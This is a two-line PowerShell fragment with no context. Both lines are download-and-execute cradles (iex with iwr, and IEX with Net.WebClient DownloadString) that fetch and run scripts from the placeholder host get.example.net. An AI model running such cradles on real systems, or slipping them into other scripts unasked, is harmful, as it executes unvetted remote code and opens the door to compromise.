iex (iwr https://get.example.net/install.ps1 -UseBasicParsing).Content
IEX (New-Object Net.WebClient).DownloadString('https://get.example.net/a.ps1')
